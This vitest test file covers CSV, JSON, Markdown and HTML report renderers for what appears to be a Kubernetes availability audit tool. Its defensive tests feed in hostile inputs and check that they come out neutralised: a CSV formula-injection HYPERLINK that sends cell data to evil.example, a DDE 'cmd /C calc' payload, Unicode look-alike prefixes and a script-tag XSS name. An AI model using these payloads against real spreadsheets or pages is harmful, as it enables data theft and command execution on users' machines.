import { describe, expect, it } from 'vitest';
import {
  computeAuditReport,
  csvCell,
  escapeHtml,
  escapeMarkdown,
  formatDuration,
  formatPercent,
  quoteCsvField,
  renderCsv,
  renderHtml,
  renderJson,
  renderMarkdown,
} from '../../../src/reports/index.ts';
import { change, input, iv, phase, reach } from '../../fixtures/reports/histories.ts';

const CSV_HEADER = [
  'id',
  'cluster',
  'namespace',
  'name',
  'source',
  'observed_ms',
  'unreachable_ms',
  'unobserved_ms',
  'availability_percent',
  'current_ms',
  'inprogress_ms',
  'failed_ms',
  'terminating_ms',
  'notfound_ms',
  'unknown_ms',
  'failures',
  'failed_at_start',
  'incidents',
  'recovered',
  'mean_time_to_recover_ms',
  'longest_time_to_recover_ms',
  'open_incident_since',
  'status_changes',
  'max_changes_in_an_hour',
  'flapping',
  'manifest_changes',
  'status_at_end',
  // Added after the others, so readers taking columns by position keep working.
  'mean_time_out_of_current_ms',
  'longest_time_out_of_current_ms',
  'restores',
  'restored',
  'mean_time_to_restore_ms',
  'longest_time_to_restore_ms',
  'not_restored_since',
  'inventory_changes',
  'revision_changes',
].join(',');

describe('renderCsv', () => {
  it('writes a header and one RFC 4180 row per phase, worst first, quoting a name with a comma and a quote', () => {
    const report = computeAuditReport(
      input([
        phase('p1', [iv('Current', 0, 24)], { name: 'web, "edge"' }),
        phase('p2', [iv('Current', 0, 10), iv('Failed', 10, 16), iv('Current', 16, 18), iv('InProgress', 18, null)], {
          name: 'api\nv2',
        }),
        phase('p3', []),
      ]),
    );
    expect(renderCsv(report)).toBe(
      `${CSV_HEADER}\r\n` +
        // p2 leads (50% available): restored from Failed in 6 h (10:00 to 16:00), then left Current at 18:00 for a rollout still going.
        'p2,prod,shop,"api\nv2",cli-utils,86400000,0,0,50,43200000,21600000,21600000,0,0,0,1,false,2,1,21600000,21600000,2026-10-01T18:00:00.000Z,3,1,false,0,InProgress,21600000,21600000,1,1,21600000,21600000,,0,0\r\n' +
        'p1,prod,shop,"web, ""edge""",cli-utils,86400000,0,0,100,86400000,0,0,0,0,0,0,false,0,0,,,,0,0,false,0,Current,,,0,0,,,,0,0\r\n' +
        'p3,prod,shop,p3,cli-utils,0,0,86400000,,0,0,0,0,0,0,0,false,0,0,,,,0,0,false,0,,,,0,0,,,,0,0\r\n',
    );
  });

  it.each([
    ['plain', 'plain'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['line\r\nbreak', '"line\r\nbreak"'],
    ['', ''],
  ])('quotes %j as %j', (value, quoted) => {
    expect(quoteCsvField(value)).toBe(quoted);
  });
});

describe('renderCsv against formula injection (OWASP CSV injection)', () => {
  it('writes hostile cluster, namespace, name and source cells as text a spreadsheet does not run', () => {
    const report = computeAuditReport(
      input([
        phase('p1', [iv('Current', 0, 24)], {
          cluster: '=HYPERLINK("http://evil.example/?"&A1,"click")',
          namespace: "+cmd|' /C calc'!A0",
          name: '-2+3',
          source: '@SUM(A1:A9)',
        }),
        phase('p2', [iv('Current', 0, 24)], {
          cluster: '\t=1+1',
          namespace: '\r=1+1',
          name: '-5',
          source: 'cli-utils',
        }),
      ]),
    );
    // Equal figures: ordered by cluster name, and a tab sorts before '='.
    const rows = renderCsv(report).split('\r\n');
    expect(rows[2]).toBe(
      'p1,"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")",\'+cmd|\' /C calc\'!A0,\'-2+3,\'@SUM(A1:A9),86400000,0,0,100,86400000,0,0,0,0,0,0,false,0,0,,,,0,0,false,0,Current,,,0,0,,,,0,0',
    );
    // A carriage return is also a line break: the neutralised cell is quoted as RFC 4180 asks.
    expect(rows[1]).toBe(
      "p2,'\t=1+1,\"'\r=1+1\",'-5,cli-utils,86400000,0,0,100,86400000,0,0,0,0,0,0,false,0,0,,,,0,0,false,0,Current,,,0,0,,,,0,0",
    );
  });

  it.each([
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@A1', "'@A1"],
    ['\tx', "'\tx"],
    [' =1+1', "' =1+1"],
    ['  @A1', "'  @A1"],
    ['\u3000=1', "'\u3000=1"],
    ['\u00a0+1', "'\u00a0+1"],
    ['\u200b=1', "'\u200b=1"],
    ['\ufeff=1', "'\ufeff=1"],
    ['\n=1', '"\'\n=1"'],
    ['＝1+1', "'＝1+1"],
    ['﹦1', "'﹦1"],
    ['＋1', "'＋1"],
    ['－1', "'－1"],
    ['＠A1', "'＠A1"],
    ['⁼1', "'⁼1"],
    ['a=1', 'a=1'],
    ['  a =1', '  a =1'],
    ['日本', '日本'],
    ['   ', '   '],
    ['', ''],
  ])('neutralises the text cell %j as %j', (text, written) => {
    expect(csvCell(text)).toBe(written);
  });

  it.each([
    [-5, '-5'],
    [-0.25, '-0.25'],
    [42, '42'],
    [false, 'false'],
    [null, ''],
  ])('keeps the computed figure %j as the number %j', (value, written) => {
    expect(csvCell(value)).toBe(written);
  });
});

describe('renderJson', () => {
  it('writes RFC 3339 UTC times, milliseconds and nulls', () => {
    const report = computeAuditReport(
      input([
        phase('web', [iv('Current', 0, 12), iv('Failed', 12, null)], { manifestChanges: [change(1, ['a'])] }),
        phase('empty', []),
      ]),
    );
    const json: unknown = JSON.parse(renderJson(report));
    expect(json).toMatchObject({
      range: { from: '2026-10-01T00:00:00.000Z', to: '2026-10-02T00:00:00.000Z', durationMs: 86_400_000 },
      phases: [
        {
          id: 'web',
          availability: 50,
          failureTimes: ['2026-10-01T12:00:00.000Z'],
          recovery: {
            openIncident: { since: '2026-10-01T12:00:00.000Z', ongoingMs: 43_200_000 },
            meanTimeToRecoverMs: null,
            meanTimeOutOfCurrentMs: null,
          },
          restore: {
            restores: [{ failedAt: '2026-10-01T12:00:00.000Z', restoredAt: null, durationMs: 43_200_000, cause: null }],
            notRestored: { failedAt: '2026-10-01T12:00:00.000Z', ongoingMs: 43_200_000 },
          },
          manifestChanges: [
            { at: '2026-10-01T01:00:00.000Z', inventoryChanged: true, added: ['a'], removed: [], revisionsChanged: [] },
          ],
          inventoryChanges: 1,
          revisionChanges: 0,
        },
        { id: 'empty', availability: null, observedMs: 0 },
      ],
      totals: {
        availability: 50,
        failures: 1,
        manifestChanges: 1,
        inventoryChanges: 1,
        revisionChanges: 0,
        restored: 0,
        meanTimeToRestoreMs: null,
      },
    });
  });
});

describe('renderMarkdown', () => {
  it('writes tables and escapes table-breaking user data', () => {
    const report = computeAuditReport(
      input(
        [
          phase('web', [iv('Current', 0, 10), iv('Failed', 10, 16), iv('Current', 16, 24)], {
            name: 'a|b <i>',
            manifestChanges: [change(3, ['apps/Deployment/shop/web'])],
          }),
        ],
        [{ name: 'prod', reachability: [reach(true, 0, null)] }],
      ),
    );
    const markdown = renderMarkdown(report);
    expect(markdown).toContain('| Phase | Source | Availability |');
    expect(markdown).toContain(
      '| prod/shop/a\\|b \\<i\\> | cli-utils | 75.000% | 1d 0h 0m | 0ms | 0ms | 1 | no | 2 | no | 1 | 0 |',
    );
    // Restores from Failed (1, restored in 6 h) and time out of Current (1 incident, 6 h), in the recovery table.
    expect(markdown).toContain(
      '| prod/shop/a\\|b \\<i\\> | 1 \\(1 restored\\) | 6h 0m | 6h 0m |  | 1 | 6h 0m | 6h 0m |  |',
    );
    expect(markdown).toContain(
      '| prod/shop/a\\|b \\<i\\> | 2026-10-01T10:00:00.000Z | 2026-10-01T16:00:00.000Z | 6h 0m | yes |  |  |',
    );
    expect(markdown).toContain(
      '| prod/shop/a\\|b \\<i\\> | 2026-10-01T03:00:00.000Z | new manifest version | apps/Deployment/shop/web |  |  |',
    );
    expect(markdown).toContain('| prod | 100.000% | 1d 0h 0m | 0ms | 0ms | 0 | 0ms |  |');
  });

  it('names what caused each incident and restore, and tells inventory changes from revision changes', () => {
    const cause = {
      resource: 'apps/Deployment/shop/web',
      status: 'Failed' as const,
      message: 'ProgressDeadlineExceeded | see <events>',
    };
    const report = computeAuditReport(
      input([
        phase('web', [iv('Current', 0, 10), { ...iv('Failed', 10, 16), cause }, iv('Current', 16, 24)], {
          manifestChanges: [change(3, ['apps/Service/shop/web']), change(9, [], [], ['apps/Deployment/shop/web'])],
        }),
      ]),
    );
    const markdown = renderMarkdown(report);
    expect(markdown).toContain(
      '| Phases | Clusters | Availability | Failures | Restored from Failed | Mean time to restore | Incidents | Mean time out of Current | Flapping phases | Cluster outages | Inventory changes | Revision changes |',
    );
    expect(markdown).toContain('| 1 | 0 | 75.000% | 1 | 1 | 6h 0m | 1 | 6h 0m | 0 | 0 | 1 | 1 |');
    expect(markdown).toContain(
      '| prod/shop/web | 2026-10-01T10:00:00.000Z | 2026-10-01T16:00:00.000Z | 6h 0m | yes | apps/Deployment/shop/web \\(Failed\\) | ProgressDeadlineExceeded \\| see \\<events\\> |',
    );
    expect(markdown).toContain(
      '| prod/shop/web | 2026-10-01T10:00:00.000Z | 2026-10-01T16:00:00.000Z | 6h 0m | apps/Deployment/shop/web \\(Failed\\) | ProgressDeadlineExceeded \\| see \\<events\\> |',
    );
    expect(markdown).toContain(
      '| prod/shop/web | 2026-10-01T09:00:00.000Z | member revisions |  |  | apps/Deployment/shop/web |',
    );
  });

  it.each([
    ['web|api', 'web\\|api'],
    ['two\nlines', 'two lines'],
    ['<b>*x*</b>', '\\<b\\>\\*x\\*\\</b\\>'],
  ])('escapes %j as %j', (text, escaped) => {
    expect(escapeMarkdown(text)).toBe(escaped);
  });
});

const SCRIPT_NAME = '&#60;script&#62;alert(&#34;x&#34;)&#60;/script&#62;';

describe('renderHtml', () => {
  const history = input(
    [
      phase('p1', [iv('Current', -2, 10), iv('Failed', 10, 16), iv('Current', 16, 24)], {
        name: '<script>alert("x")</script>',
      }),
      phase('p2', [iv('InProgress', 2, 6), iv('Current', 6, 12, true), iv('Current', 12, null)], { name: 'api & co' }),
      phase('p3', []),
    ],
    [{ name: 'prod', reachability: [reach(true, 0, 6), reach(false, 6, 12), reach(true, 12, null)] }],
  );
  const report = computeAuditReport(history);
  const html = renderHtml(report, history);
  const svgs = html
    .split('<svg')
    .slice(1)
    .map((part) => part.split('</svg>')[0] ?? '');
  /** The timeline of the phase named `name` (phases come worst first, not in the input's order). */
  const svgOf = (name: string): string =>
    svgs.find((svg) => svg.includes(`aria-label="Status timeline of prod/shop/${name}"`)) ?? '';

  it('escapes user data: no script element survives a phase name', () => {
    expect(html).not.toContain('<script');
    expect(html).toContain('prod/shop/&#60;script&#62;alert(&#34;x&#34;)&#60;/script&#62;');
    expect(html).toContain('prod/shop/api &#38; co');
  });

  it('is self-contained: inline style, no script, no external URL', () => {
    expect(html.startsWith('<!DOCTYPE html>')).toBe(true);
    expect(html).toContain('<style>');
    expect(html).not.toMatch(/https?:|<link|@import|@font-face|src=/i);
  });

  it('lists phases worst first: api (75%), then the one that failed (14 h of 18 h reachable, 77.8%), then the one never seen', () => {
    expect(report.phases.map((phase) => phase.id)).toEqual(['p2', 'p1', 'p3']);
    expect([...html.matchAll(/<section class="phase">\n<h2>([^<]*)<\/h2>/g)].map((match) => match[1])).toEqual([
      'prod/shop/api &#38; co',
      'prod/shop/&#60;script&#62;alert(&#34;x&#34;)&#60;/script&#62;',
      'prod/shop/p3',
    ]);
  });

  it('draws one SVG per phase with one segment per interval in the range', () => {
    expect(svgs.map((svg) => svg.match(/class="seg"/g)?.length ?? 0)).toEqual([3, 3, 0]);
  });

  it('gives each segment a tooltip with status, from and to, and its colour', () => {
    expect(svgOf(SCRIPT_NAME)).toContain(
      '<g class="seg" data-status="Failed"><title>Failed, from 2026-10-01T10:00:00.000Z to 2026-10-01T16:00:00.000Z</title><rect x="416.67" y="16" width="250" height="28" fill="#c62828"/>',
    );
    expect(svgOf(SCRIPT_NAME)).toContain(
      '<title>Current, from 2026-10-01T00:00:00.000Z to 2026-10-01T10:00:00.000Z</title>',
    );
  });

  it("hatches stale segments and the cluster's unreachable period", () => {
    expect(svgOf('api &#38; co')).toContain(
      '<title>Current, from 2026-10-01T06:00:00.000Z to 2026-10-01T12:00:00.000Z (stale: cluster not readable, last known status)</title><rect x="250" y="16" width="250" height="28" fill="#2e7d32"/><rect x="250" y="16" width="250" height="28" fill="url(#hatch-0)"/>',
    );
    expect(svgOf('api &#38; co')).toContain(
      '<rect class="unreachable" x="250" y="16" width="250" height="28" fill="url(#hatch-0)"><title>cluster unreachable, from 2026-10-01T06:00:00.000Z to 2026-10-01T12:00:00.000Z</title></rect>',
    );
  });

  it('names each status in words beside its colour swatch', () => {
    // p1 is in prod, unreachable 06:00-12:00: 4 h of its Current and 2 h of its Failed time are counted apart.
    expect(html).toContain(
      '<ul class="legend"><li><span class="swatch" style="background:#2e7d32"></span>Current 14h 0m</li><li><span class="swatch" style="background:#c62828"></span>Failed 4h 0m</li><li><span class="swatch hatched"></span>Unreachable (hatched) 6h 0m</li></ul>',
    );
    expect(svgOf(SCRIPT_NAME)).toContain('>Failed</text>');
  });

  it('draws a UTC time axis with a tick every 3 hours over a day, the first with its date', () => {
    const labels = [...svgOf(SCRIPT_NAME).matchAll(/<g class="tick">.*?>([^<]*)<\/text><\/g>/g)].map(
      (match) => match[1],
    );
    expect(labels).toEqual([
      '10-01 00:00',
      '03:00',
      '06:00',
      '09:00',
      '12:00',
      '15:00',
      '18:00',
      '21:00',
      '10-02 00:00',
    ]);
    expect(svgOf(SCRIPT_NAME)).toContain(
      '<line x1="500" y1="44" x2="500" y2="49" stroke="#555555"/><text x="500" y="63" font-size="11" fill="#333333" text-anchor="middle">12:00</text>',
    );
  });

  it('marks manifest changes on the timeline: filled for a new manifest version, hollow for member revisions alone', () => {
    const withChanges = input([
      phase('web', [iv('Current', 0, 24)], {
        manifestChanges: [change(6, ['apps/Service/shop/web']), change(12, [], [], ['apps/Deployment/shop/web'])],
      }),
    ]);
    const svg = renderHtml(computeAuditReport(withChanges), withChanges);
    expect(svg).toContain(
      '<g class="change" data-kind="inventory" data-changes="1"><title>new manifest version at 2026-10-01T06:00:00.000Z\nadded: apps/Service/shop/web</title><line x1="250"',
    );
    expect(svg).toContain('<polygon points="244,1 256,1 250,13" fill="#222222"');
    expect(svg).toContain(
      '<g class="change" data-kind="revision" data-changes="1"><title>member revisions at 2026-10-01T12:00:00.000Z\nrevisions changed: apps/Deployment/shop/web</title><line x1="500"',
    );
    expect(svg).toContain('<polygon points="494,1 506,1 500,13" fill="#ffffff"');
    expect(svg).toContain(
      'New manifest version 1</li><li><span class="marker" aria-hidden="true">&#9661;</span>Member revisions only 1</li>',
    );
  });

  it('draws changes too close to tell apart as one marker with their count, each described in its title', () => {
    // 10 minutes apart in a day is 7 of 1000 units, less than a marker's width.
    const close = input([
      phase('web', [iv('Current', 0, 24)], {
        manifestChanges: [
          change(6, [], [], ['apps/Deployment/shop/web']),
          change(6 + 1 / 6, ['/ConfigMap/shop/flags']),
        ],
      }),
    ]);
    const svg = renderHtml(computeAuditReport(close), close);
    expect(svg.match(/<g class="change"/g)).toHaveLength(1);
    expect(svg).toContain(
      '<g class="change" data-kind="inventory" data-changes="2"><title>member revisions at 2026-10-01T06:00:00.000Z\nrevisions changed: apps/Deployment/shop/web\n\nnew manifest version at 2026-10-01T06:10:00.000Z\nadded: /ConfigMap/shop/flags</title>',
    );
    expect(svg).toContain(
      'fill="#222222" stroke="#222222" stroke-width="1.5"/><text x="258" y="11" font-size="10" fill="#222222">2</text></g>',
    );
  });

  it('names the resource behind a status and its message on hover, and in the incident table', () => {
    const cause = {
      resource: 'apps/Deployment/shop/web',
      status: 'Failed' as const,
      message: 'Back-off <pulling> image',
    };
    const failing = input([
      phase('web', [iv('Current', 0, 10), { ...iv('Failed', 10, 16), cause }, iv('Current', 16, 24)]),
    ]);
    const page = renderHtml(computeAuditReport(failing), failing);
    expect(page).toContain(
      '<title>Failed, from 2026-10-01T10:00:00.000Z to 2026-10-01T16:00:00.000Z\ncaused by apps/Deployment/shop/web (Failed): Back-off &#60;pulling&#62; image</title>',
    );
    expect(page).toContain(
      '<td>yes</td><td>apps/Deployment/shop/web (Failed)</td><td>Back-off &#60;pulling&#62; image</td></tr>',
    );
  });
});

describe('formatting', () => {
  it.each([
    [0, '0ms'],
    [450, '450ms'],
    [42_000, '42s'],
    [3_900_000, '1h 5m'],
    [183_607_000, '2d 3h 0m 7s'],
    [null, 'n/a'],
  ])('formatDuration(%j) is %j', (ms, text) => {
    expect(formatDuration(ms)).toBe(text);
  });

  it.each([
    [null, 'n/a'],
    [75, '75.000%'],
    [100 * (20 / 24), '83.333%'],
  ])('formatPercent(%j) is %j', (value, text) => {
    expect(formatPercent(value)).toBe(text);
  });

  it('escapeHtml covers all five special characters', () => {
    expect(escapeHtml(`<a href="x">'&'</a>`)).toBe('&#60;a href=&#34;x&#34;&#62;&#39;&#38;&#39;&#60;/a&#62;');
  });
});
